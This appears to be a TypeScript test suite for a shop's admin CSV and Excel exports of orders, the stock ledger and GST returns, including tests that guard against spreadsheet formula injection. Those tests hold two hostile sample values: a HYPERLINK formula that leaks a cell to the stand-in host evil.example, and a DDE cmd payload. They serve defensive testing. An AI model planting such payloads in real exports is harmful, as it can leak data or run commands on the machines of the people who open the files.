import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { binary } from './pdf-text.js';
import { DB_KINDS, adminToken, api, bearer, newCustomer, startApp, type TestApp } from './harness.js';
import { address } from './gstr1-month.js';
import { addProduct, line, openShop } from './order-fixtures.js';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
const tomorrow = new Date(Date.parse(today) + 86_400_000).toISOString().slice(0, 10);

/**
 * The books' exports (docs/product.md#exports): the orders of a period with their lines and payments, and the stock
 * ledger, as CSV and as an Excel workbook, for admins only; read back with csv-parse and exceljs.
 */
describe.each(DB_KINDS)('books exports on %s', (kind) => {
  let t: TestApp;
  let admin: string;
  let orderId: string;
  let product: { _id: string; name: string };

  beforeAll(async () => {
    t = await startApp(kind, { SHOP_STATE: 'Karnataka' });
    admin = await adminToken(t);
    const shop = await openShop(t, admin);
    product = await addProduct(t, admin, shop, { price: 250, stock: 40, name: 'Godan, a novel' });
    const buyer = await newCustomer(t, 'Mumbai Traders LLP');
    const office = await address(t, buyer.token, { district: 'Mumbai', city: 'Mumbai', state: 'Maharashtra', pincode: '400001', gstin: '27AAPFU0939F1ZV' });
    const placed = await api(t)
      .post('/api/order/cash-on-delivery')
      .set(bearer(buyer.token))
      .send({ list_items: [line(product, 3)], totalAmt: 750, addressId: office });
    expect(placed.status).toBe(201);
    orderId = placed.body.data.orderId;
  });
  afterAll(() => t.close());

  /** A CSV read back by exceljs's reader (fast-csv), each row by its heads, every value as the text written (a byte-order mark left out). */
  async function csvRows(csv: Buffer): Promise<Array<Record<string, string>>> {
    const text = csv.subarray(0, 3).equals(BOM) ? csv.subarray(3) : csv;
    const sheet = await new ExcelJS.Workbook().csv.read(Readable.from([text]), { map: (value: string) => value });
    const [header, ...rows] = (sheet.getSheetValues().slice(1) as string[][]).map((r) => r.slice(1));
    return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
  }

  const get = (path: string, token = admin) => api(t).get(path).set(bearer(token)).buffer(true).parse(binary);

  it('is for admins only, and names what is wrong with a period', async () => {
    const shopper = await newCustomer(t, 'Curious Shopper');
    for (const path of ['/api/admin/orders/export', '/api/admin/stock/ledger']) {
      const period = `from=${today}&to=${today}`;
      expect((await api(t).get(`${path}?${period}`)).status).toBe(401);
      expect((await api(t).get(`${path}?${period}`).set(bearer(shopper.token))).status).toBe(403);
      const bad = await api(t).get(`${path}?from=${today}&to=${today}&format=pdf`).set(bearer(admin));
      expect({ status: bad.status, message: bad.body.message }).toEqual({ status: 400, message: 'format: must be csv or xlsx' });
      const hindi = await api(t).get(`${path}?from=${tomorrow}&to=${today}`).set(bearer(admin)).set('Accept-Language', 'hi-IN');
      expect({ status: hindi.status, message: hindi.body.message }).toEqual({ status: 400, message: 'to: from से पहले की नहीं होनी चाहिए' });
    }
  });

  it('exports the orders of a period, a row per line with the order’s payment, as CSV', async () => {
    const res = await get(`/api/admin/orders/export?from=${today}&to=${today}&format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="orders-${today}-${today}.csv"`);
    // A byte-order mark first, so Excel opens the UTF-8 (Hindi names, ₹) as such, as the catalogue's export does.
    expect((res.body as Buffer).subarray(0, 3)).toEqual(BOM);
    const rows = await csvRows(res.body as Buffer);
    expect(rows).toEqual([
      expect.objectContaining({
        Order: orderId,
        Status: 'PLACED',
        'Payment method': 'COD',
        'Payment status': 'CASH ON DELIVERY',
        'Payment reference': '',
        'Order total': '750',
        Buyer: 'Asha Rao',
        State: 'Maharashtra',
        Pincode: '400001',
        'Buyer GSTIN': '27AAPFU0939F1ZV',
        Line: '1',
        Product: 'Godan, a novel',
        Quantity: '3',
        'Unit price': '250',
        'Line total': '750',
      }),
    ]);
    expect(rows[0]!['Placed at (IST)']).toMatch(new RegExp(`^${today} \\d\\d:\\d\\d:\\d\\d$`));
    // Another period has none.
    const later = await get(`/api/admin/orders/export?from=${tomorrow}&to=${tomorrow}`);
    expect(await csvRows(later.body as Buffer)).toEqual([]);
  });

  it('exports the stock ledger as an Excel workbook', async () => {
    const res = await get(`/api/admin/stock/ledger?from=${today}&to=${today}&format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const book = new ExcelJS.Workbook();
    await book.xlsx.read(Readable.from([res.body as Buffer]));
    const sheet = book.getWorksheet('Stock ledger')!;
    const values = sheet.getSheetValues().slice(1) as unknown[][];
    const header = values[0]!.slice(1);
    expect(header).toEqual(['Entry', 'At (IST)', 'SKU', 'Product', 'Option', 'Reason', 'On hand change', 'Reserved change', 'Order', 'Admin']);
    const rows = values.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i + 1] ?? null])));
    // The stock the product was made with, then the order's reservation.
    expect(rows).toEqual([
      expect.objectContaining({ Product: 'Godan, a novel', Reason: 'initial', 'On hand change': 40, 'Reserved change': 0, Order: null }),
      expect.objectContaining({ Product: 'Godan, a novel', Reason: 'order', 'On hand change': 0, 'Reserved change': 3, Order: orderId }),
    ]);
    expect(rows[0]!.SKU).toEqual(expect.any(String));
  });

  /**
   * Text a shopper or an admin typed that a spreadsheet would run as a formula (docs/decisions/0330-books-downloads.md):
   * a shopper's name, a product's and an option's name. Each export writes it with a leading apostrophe (guardedCell),
   * in CSV and in Excel alike, while numbers, a negative stock change among them, stay numbers.
   */
  describe('text that looks like a formula', () => {
    const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Asha")';
    const PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0";
    let formulaOrder: string;

    beforeAll(async () => {
      const shop = await openShop(t, admin);
      const sneaky = await addProduct(t, admin, shop, { price: 100, stock: 10, name: PRODUCT });
      // Stock taken down by 4: the ledger's on-hand change is -4, a number.
      const down = await api(t).put('/api/product/update-product-details').set(bearer(admin)).send({ _id: sneaky._id, stock: 6, expectedStock: 10 });
      expect(down.status).toBe(200);
      const shopper = await newCustomer(t, 'Sneaky Shopper');
      const home = await address(t, shopper.token, { name: NAME });
      const placed = await api(t)
        .post('/api/order/cash-on-delivery')
        .set(bearer(shopper.token))
        .send({ list_items: [line(sneaky, 1)], totalAmt: 100, addressId: home });
      expect(placed.status).toBe(201);
      formulaOrder = placed.body.data.orderId;
    });

    /** The rows of an xlsx export's sheet by their heads, each cell as exceljs reads it (text, number or a formula object). */
    async function xlsxRows(body: Buffer, sheet: string): Promise<Array<Record<string, unknown>>> {
      const book = new ExcelJS.Workbook();
      await book.xlsx.read(Readable.from([body]));
      const values = book.getWorksheet(sheet)!.getSheetValues().slice(1) as unknown[][];
      const header = values[0]!.slice(1) as string[];
      return values.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i + 1] ?? null])));
    }

    it('guards the orders export, CSV and Excel', async () => {
      const csv = await csvRows((await get(`/api/admin/orders/export?from=${today}&to=${today}&format=csv`)).body as Buffer);
      const ours = csv.find((r) => r.Order === formulaOrder)!;
      expect({ buyer: ours.Buyer, product: ours.Product, total: ours['Order total'] }).toEqual({ buyer: `'${NAME}`, product: `'${PRODUCT}`, total: '100' });
      const xlsx = await xlsxRows((await get(`/api/admin/orders/export?from=${today}&to=${today}&format=xlsx`)).body as Buffer, 'Orders');
      const row = xlsx.find((r) => r.Order === formulaOrder)!;
      expect({ buyer: row.Buyer, product: row.Product, total: row['Order total'] }).toEqual({ buyer: `'${NAME}`, product: `'${PRODUCT}`, total: 100 });
    });

    it('guards the stock ledger, CSV and Excel, and keeps a negative change a number', async () => {
      const csv = await csvRows((await get(`/api/admin/stock/ledger?from=${today}&to=${today}&format=csv`)).body as Buffer);
      const ours = csv.filter((r) => r.Product === `'${PRODUCT}`);
      expect(ours.map((r) => [r.Reason, r['On hand change']])).toEqual([
        ['initial', '10'],
        ['adjustment', '-4'],
        ['order', '0'],
      ]);
      const xlsx = await xlsxRows((await get(`/api/admin/stock/ledger?from=${today}&to=${today}&format=xlsx`)).body as Buffer, 'Stock ledger');
      expect(xlsx.filter((r) => r.Product === `'${PRODUCT}`).map((r) => [r.Reason, r['On hand change']])).toEqual([
        ['initial', 10],
        ['adjustment', -4],
        ['order', 0],
      ]);
      expect(xlsx.some((r) => typeof r.Product === 'object' && r.Product !== null)).toBe(false); // no cell read as a formula
    });

    it('guards the GSTR-1 CSV: the product’s name as its HSN row’s description', async () => {
      const delivered = await api(t).post('/api/order/admin/update-status').set(bearer(admin)).send({ orderId: formulaOrder, status: 'DELIVERED' });
      expect(delivered.status).toBe(200);
      // A return is for a whole month (docs/product.md#gst-return): today's.
      const monthEnd = new Date(Date.UTC(Number(today.slice(0, 4)), Number(today.slice(5, 7)), 0)).toISOString().slice(0, 10);
      const res = await get(`/api/admin/gst/gstr1?from=${today.slice(0, 8)}01&to=${monthEnd}&format=csv&table=hsn&part=b2c`);
      expect(res.status).toBe(200);
      const hsn = await csvRows(res.body as Buffer);
      expect(hsn.map((r) => r.Description)).toContain(`'${PRODUCT}`);
      expect(hsn.map((r) => r.Description)).not.toContain(PRODUCT);
    });
  });
});
